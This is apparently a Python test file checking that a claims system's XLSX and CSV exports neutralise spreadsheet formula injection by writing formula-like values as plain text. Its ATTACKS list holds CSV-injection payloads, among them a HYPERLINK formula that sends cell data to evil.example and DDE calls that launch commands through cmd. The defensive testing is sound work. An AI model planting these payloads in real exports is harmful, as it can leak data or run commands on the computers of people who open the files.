"""Spreadsheet formula injection (issue 15, security review): a text a sender chose — a claim
key, a name — that starts like a formula comes back in every export as the text that was sent,
never as a live formula (OWASP "CSV Injection": cells starting with = + - @, tab or CR)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from sitthi.claims.intake.report import report_xlsx
from sitthi.rules.kernel.problems import Problem
from sitthi.web.exports import csv_row, table_response, xlsx_row
from tests.claims.conftest import payload, tariff  # noqa: F401  (tariff: a fixture)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(data: bytes):
    return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_xlsx_export_writes_formula_like_text_as_text(text):
    r = table_response("xlsx", "t", ["claim_key", "amount"], [[text, -5]])
    key, amount = _xlsx_cells(r.content)[-2:]  # after the title row and the header row
    # text, exactly as sent (XML reads a carriage return back as a line feed)
    assert key.data_type == "s" and key.value == text.replace("\r", "\n")
    assert key.quotePrefix  # Excel keeps it text when the cell is edited
    assert amount.data_type == "n" and amount.value == -5  # numbers stay numbers


@pytest.mark.parametrize("text", ATTACKS)
def test_a_csv_export_writes_formula_like_text_behind_an_apostrophe(text):
    r = table_response("csv", "t", ["claim_key", "amount"], [[text, -5]])
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + text, "-5"]


def test_ordinary_text_is_untouched():
    assert csv_row(["K-1", "โรงพยาบาล", "a=b", 3, None]) == ["K-1", "โรงพยาบาล", "a=b", 3, None]
    ws = Workbook(write_only=True).create_sheet("s")
    assert xlsx_row(ws, ["K-1", "ก-ข", 2.5]) == ["K-1", "ก-ข", 2.5]


def test_the_upload_problem_report_echoes_a_formula_as_text():
    """The per-row report repeats what the sender typed (the value column)."""
    problem = Problem(file="c.csv", row=2, field="claim_key", code="VALUE_INVALID", value="+1+2")
    cells = _xlsx_cells(report_xlsx([problem]))
    (value,) = [c for c in cells if c.value == "+1+2"]
    assert value.data_type == "s"


@pytest.mark.usefixtures("tariff")
def test_a_claim_key_sent_as_a_formula_comes_back_as_text_in_the_claims_export(
    client, users, person
):
    attack = '=HYPERLINK("http://evil.example","x")'
    client.force_login(users["hospital"])
    r = client.post("/api/v1/claims", payload(person, key=attack), content_type="application/json")
    assert r.status_code in (200, 201), r.content
    cells = _xlsx_cells(client.get("/claims/", {"format": "xlsx"}).content)
    (key,) = [c for c in cells if c.value == attack]
    assert key.data_type == "s"
    text = client.get("/claims/", {"format": "csv"}).content.decode("utf-8-sig")
    assert "'" + attack.replace('"', '""') in text


SRC = Path(__file__).resolve().parents[2] / "src" / "sitthi"
#: Writers that write only their own fixed text.
FIXED_TEXT_ONLY = {"claims/intake/tabular.py"}  # the blank template: headers and examples


def test_every_spreadsheet_writer_goes_through_the_guard():
    """A module that builds a workbook or a CSV writer writes its rows with the guarded
    helpers of ``sitthi.web.exports`` (or hands them to ``add_sheet``/``table_response``)."""
    unguarded = []
    for path in SRC.rglob("*.py"):
        text = path.read_text("utf-8")
        name = path.relative_to(SRC).as_posix()
        if name == "web/exports.py" or name in FIXED_TEXT_ONLY:
            continue
        if re.search(r"\bWorkbook\(|csv\.writer\(", text):
            if not re.search(r"\b(xlsx_row|csv_row|add_sheet|table_response)\b", text):
                unguarded.append(name)
    assert unguarded == []
